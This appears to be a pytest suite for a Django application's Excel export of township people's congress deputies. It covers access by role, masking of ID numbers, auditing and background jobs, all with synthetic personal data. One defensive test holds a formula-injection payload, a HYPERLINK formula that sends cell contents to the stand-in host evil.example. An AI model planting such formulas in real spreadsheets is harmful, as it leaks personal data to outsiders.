"""The roster export 代表花名册: the workbook's layout, rows and columns; who may export
what, and with which ID numbers in full; formulas written as text; the background job for
large exports (in process, and on a real worker); the audit line of every export."""

from __future__ import annotations

import datetime
import io
import random
import time

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from deputies import exports, views_export
from deputies.exports import HEADER, RosterExport, roster_rows
from deputies.models import Deputy, Mandate
from deputies.privacy import mask_id_number
from org.jobs import job_create, job_execute
from org.models import AuditEntry, Job, Term
from org.seeding import id_number
from tests.factories import DeputyFactory, TermFactory

pytestmark = pytest.mark.django_db

URL = "/deputies/export/"
FIRST_DATA_ROW = 4  # title, note, header, then the deputies


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path


def make_deputy(township, name, gender="M", **kw):
    """A deputy with a valid ID number, a phone and a serving township mandate."""
    rng = random.Random(name)
    born = datetime.date(1970 + rng.randrange(20), 1 + rng.randrange(12), 1 + rng.randrange(28))
    deputy = DeputyFactory(
        region=township,
        name=name,
        gender=gender,
        birth_date=born,
        id_number=id_number(rng, "130599", born, gender),
        phone="139" + f"{rng.randrange(10**8):08d}",
        **kw,
    )
    term = Term.objects.filter(region=township, number=20).first() or TermFactory(region=township, number=20)
    Mandate.objects.create(deputy=deputy, region=township, term=term, elected_on=datetime.date(2021, 12, 1))
    return deputy


@pytest.fixture
def roster(world):
    """Three deputies in township A (one a woman), two in township B."""
    return {
        "a": [
            make_deputy(world.town_a, "张建国", party=Deputy.Party.CPC, work_unit="甲镇甲村党支部书记"),
            make_deputy(world.town_a, "李秀英", gender="F", party=Deputy.Party.DEMOCRATIC, democratic_party="民盟"),
            make_deputy(world.town_a, "王海涛", reelected=True, returned_overseas=True),
        ],
        "b": [make_deputy(world.town_b, "赵志强"), make_deputy(world.town_b, "刘丽娟", gender="F")],
    }


def download(client, query=""):
    """POST the export page and return the workbook's sheet."""
    response = client.post(f"{URL}?{query}" if query else URL)
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def data_rows(ws):
    """The deputy rows (the total row under them left out)."""
    rows = list(ws.iter_rows(min_row=FIRST_DATA_ROW, values_only=True))
    return [r for r in rows if isinstance(r[0], int)]


def test_county_admin_gets_every_township_with_the_roster_layout(world, roster, login):
    ws = download(login(world.county_admin))
    assert ws["A1"].value == "测试县乡镇人大代表花名册"
    assert ws["A2"].value.startswith("导出时间：") and "范围：测试县" in ws["A2"].value
    assert [c.value for c in ws[3]] == HEADER == [
        "序号", "姓名", "性别", "民族", "出生年月", "身份证号", "联系电话", "政治面貌", "学历", "职业类别",
        "工作单位及职务", "所属乡镇", "层级", "届次", "状态", "连任", "归侨",
    ]  # fmt: skip
    rows = data_rows(ws)
    assert len(rows) == 5
    assert [r[0] for r in rows] == [1, 2, 3, 4, 5]
    assert {r[11] for r in rows} == {"甲镇", "乙镇"}
    assert ws.cell(row=FIRST_DATA_ROW + 5, column=1).value.startswith("合计：5 名代表")
    # Frozen header (and name column), A4 landscape, header row repeated on every page.
    assert ws.freeze_panes == "C4"
    assert ws.print_title_rows == "$3:$3"
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.paperSize == 9
    assert "第 &P 页 共 &N 页" in ws.oddFooter.center.text

    by_name = {r[1]: r for r in rows}
    zhang = roster["a"][0]
    row = by_name["张建国"]
    assert row[2:4] == ("男", "汉族")
    assert row[4].date() == zhang.birth_date
    assert ws.cell(row=FIRST_DATA_ROW, column=5).number_format == "yyyy.mm"
    assert row[5] == zhang.id_number and row[6] == zhang.phone  # county staff: in full
    assert row[7] == "中共党员" and row[10] == "甲镇甲村党支部书记"
    assert row[12:15] == ("乡镇", "第二十届", "在任")
    assert by_name["李秀英"][7] == "民盟盟员"
    assert by_name["王海涛"][15:17] == ("是", "是")
    assert by_name["张建国"][15:17] == (None, None)


def test_id_numbers_are_text_never_numbers(world, roster, login):
    ws = download(login(world.county_admin))
    for row in ws.iter_rows(min_row=FIRST_DATA_ROW, max_row=FIRST_DATA_ROW + 4):
        assert row[5].data_type == "s" and len(row[5].value) == 18
        assert row[6].data_type == "s"


def test_clerk_exports_only_its_township_in_full(world, roster, login):
    ws = download(login(world.clerk_a))
    rows = data_rows(ws)
    assert {r[1] for r in rows} == {"张建国", "李秀英", "王海涛"}
    assert ws["A1"].value == "测试县甲镇人大代表花名册"
    full = {d.id_number for d in roster["a"]}
    assert {r[5] for r in rows} == full


def test_clerk_b_cannot_export_township_a(world, roster, login):
    client = login(world.clerk_b)
    for query in ("", f"region={world.town_a.pk}"):
        assert {r[1] for r in data_rows(download(client, query))} == {"赵志强", "刘丽娟"}, query
    # A township-A name filters township B's roster down to nothing: no file at all.
    assert "0 名" in client.get(f"{URL}?q=张建国").content.decode()
    response = client.post(f"{URL}?q=张建国")
    assert response.status_code == 302
    assert AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).count() == 2


def test_county_admin_narrows_to_a_township_with_the_filter(world, roster, login):
    ws = download(login(world.county_admin), f"region={world.town_b.pk}")
    assert ws["A1"].value == "测试县乙镇人大代表花名册"
    assert {r[1] for r in data_rows(ws)} == {"赵志强", "刘丽娟"}


def test_roster_filters_apply(world, roster, login):
    ws = download(login(world.county_admin), "gender=F")
    assert {r[1] for r in data_rows(ws)} == {"李秀英", "刘丽娟"}
    assert "性别：女" in ws["A2"].value


@pytest.mark.parametrize("persona", ["deputy_a", "unit_user_a", "auditor"])
def test_other_roles_cannot_export(world, roster, login, persona):
    client = login(getattr(world, persona))
    assert client.get(URL).status_code == 403
    assert client.post(URL).status_code == 403
    assert not AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).exists()


def test_anonymous_goes_to_login(client):
    response = client.get(URL)
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_rows_are_masked_for_a_user_who_may_not_see_them_in_full(world, roster):
    """The row builder masks per deputy: here a deputy-role user reading its own record."""
    own = roster["a"][0]
    Deputy.objects.filter(pk=own.pk).update(user=world.deputy_a)
    qs = Deputy.objects.for_user(world.deputy_a)
    rows = list(roster_rows(qs, world.deputy_a))
    assert len(rows) == 1
    assert rows[0][5] == mask_id_number(own.id_number) != own.id_number
    assert rows[0][6] == own.phone[:3] + "****" + own.phone[-4:]


def test_export_page_says_what_will_be_exported(world, roster, login):
    page = login(world.clerk_a).get(URL).content.decode()
    assert "3 名" in page and "甲镇" in page and "完整导出" in page
    assert "导出 Excel" in page


def test_every_export_is_audited_with_rows_and_full_ids(world, roster, login):
    download(login(world.county_admin))
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
    note = entry.changes["note"]["new"]
    assert entry.user == world.county_admin
    assert "5 行" in note and "含完整身份证号：是" in note
    assert entry.path == URL


def test_formulas_are_written_as_text(world, login):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    make_deputy(world.town_a, evil, work_unit="+1 SUM(A1:A9)")
    make_deputy(world.town_a, "@cmd", work_unit="-2+3")
    ws = download(login(world.clerk_a))
    cells = {row[1].value: row for row in ws.iter_rows(min_row=FIRST_DATA_ROW) if isinstance(row[0].value, int)}
    row = cells[evil]
    assert row[1].data_type == "s" and row[1].value == evil  # the name as typed, not a formula
    assert row[1].quotePrefix  # Excel keeps it text even when the cell is edited
    assert row[10].data_type == "s" and row[10].value == "+1 SUM(A1:A9)"
    assert cells["@cmd"][10].value == "-2+3" and cells["@cmd"][10].data_type == "s"


def test_large_export_becomes_a_job_and_the_job_writes_the_file(world, roster, login, media, monkeypatch):
    monkeypatch.setattr(views_export, "DIRECT_LIMIT", 1)
    client = login(world.clerk_a)
    page = client.get(URL).content.decode()
    assert "提交后台生成" in page
    response = client.post(f"{URL}?gender=M")
    assert response.status_code == 302 and response["Location"] == reverse("org:job-list")
    job = Job.objects.get(kind="deputy_roster")
    assert job.region == world.town_a and job.requested_by == world.clerk_a
    assert job.params == {"query": "gender=M"}
    assert not AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).exists()  # nothing exported yet

    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.state == Job.State.DONE, job.message
    assert job.output_name.startswith("代表花名册-甲镇-") and job.output_name.endswith(".xlsx")
    assert "2 名代表" in job.message
    ws = load_workbook(job.output.path).active
    assert {r[1] for r in data_rows(ws)} == {"张建国", "王海涛"}
    assert {r[5] for r in data_rows(ws)} == {roster["a"][0].id_number, roster["a"][2].id_number}
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
    assert entry.user == world.clerk_a and entry.model == "org.job" and entry.object_id == str(job.pk)
    assert "2 行" in entry.changes["note"]["new"]


def test_job_of_a_township_exports_nothing_of_another(world, roster, media):
    job = Job.objects.create(kind="deputy_roster", region=world.town_b, requested_by=world.county_admin, params={})
    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.state == Job.State.DONE, job.message
    assert {r[1] for r in data_rows(load_workbook(job.output.path).active)} == {"赵志强", "刘丽娟"}


def test_job_with_nothing_to_export_fails_with_a_message(world, media):
    job = Job.objects.create(kind="deputy_roster", region=world.town_b, requested_by=world.clerk_b, params={})
    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.state == Job.State.FAILED and "没有符合条件的代表" in job.message


def test_job_rechecks_scope(world, roster, media):
    with pytest.raises(Exception, match="无权"):
        job_create(kind="deputy_roster", region=world.town_a, user=world.clerk_b)
    job = Job.objects.create(kind="deputy_roster", region=world.town_a, requested_by=world.clerk_b, params={})
    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.state == Job.State.FAILED and not job.output


def test_roster_reads_a_constant_number_of_queries(world, django_assert_max_num_queries):
    """Chunked reads: 30 deputies or 3,000, the same handful of queries per 2,000 rows."""
    for i in range(30):
        make_deputy(world.town_a, f"测试代表{i:02d}")
    export = RosterExport(user=world.county_admin, region=world.county)
    out = io.BytesIO()
    with django_assert_max_num_queries(6):
        stats = export.write(out)
    assert stats.rows == 30 and stats.full_rows == 30


def test_mandate_columns_pick_the_serving_township_seat():
    d = datetime.date
    serving = ("township", "serving", 20, d(2021, 12, 1), False)
    old = ("township", "expired", 19, d(2016, 12, 1), False)
    county = ("county", "serving", 18, d(2021, 12, 1), False)
    assert exports.mandate_columns([old, serving, county]) == ("乡镇、县", "第二十届", "在任")
    resigned = ("township", "resigned", 20, d(2023, 3, 1), True)
    assert exports.mandate_columns([old, resigned]) == ("乡镇", "第二十届", "辞职（补选）")
    assert exports.mandate_columns([]) == ("", "", "")


# --- on a real worker --------------------------------------------------------------------------


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_roster_job_runs_on_a_real_worker(worker, world, roster, client):
    """The worker loads no URLconf: it must still know the deputy_roster job kind."""
    job = job_create(kind="deputy_roster", region=world.town_a, user=world.clerk_a, params={"query": ""})
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        job.refresh_from_db()
        if job.is_finished:
            break
        time.sleep(0.1)
    assert job.state == Job.State.DONE, (job.message, worker.log()[-3000:])
    client.force_login(world.clerk_a)
    response = client.get(f"/org/jobs/{job.pk}/download/")
    ws = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert {r[1] for r in data_rows(ws)} == {"张建国", "李秀英", "王海涛"}
